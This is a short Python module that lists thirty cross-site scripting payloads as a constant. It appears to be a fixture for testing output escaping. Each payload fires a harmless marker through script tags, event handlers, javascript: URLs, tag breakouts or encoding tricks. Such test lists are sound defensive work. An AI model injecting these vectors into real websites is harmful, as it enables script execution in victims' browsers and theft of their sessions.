"""Thirty ways to have a script run where text is shown."""

from typing import Final

HIT: Final = "window.hit=1"
PAYLOADS: Final = (
    *(f"<script>{HIT}</script>", f"<img src=x onerror={HIT}>", f"<svg onload={HIT}>", f"<svg/onload={HIT}//"),
    *(f"'\"><script>{HIT}</script>", f"javascript:{HIT}", f"<a href=javascript:{HIT}>x</a>", f"<body onload={HIT}>"),
    *(f"<iframe srcdoc='<script>{HIT}</script>'>", f"<details open ontoggle={HIT}>", f"<video><source onerror={HIT}>"),
    *(f"</title><script>{HIT}</script>", f"</textarea><script>{HIT}</script>", f"<input autofocus onfocus={HIT}>"),
    *(f"<marquee onstart={HIT}>", f"<math><mi xlink:href=javascript:{HIT}>", f"<style>@import'{HIT}'</style>"),
    *(
        f"{{{{{HIT}}}}}",
        f"${{{HIT}}}",
        f"`${{{HIT}}}`",
        f"\\u003cscript>{HIT}</script>",
        f"&lt;script>{HIT}&lt;/script>",
    ),
    *(f"%3Cscript%3E{HIT}%3C/script%3E", f"<!--<script>{HIT}//-->", f"<script\x0c>{HIT}</script>".replace("\x0c", "/")),
    *(f"<object data=javascript:{HIT}>", f"<embed src=javascript:{HIT}>", f"<form action=javascript:{HIT}>"),
    *(f"<template><script>{HIT}</script>", f"{{claim}} <b onmouseover={HIT}>{{who}}</b>"),
)
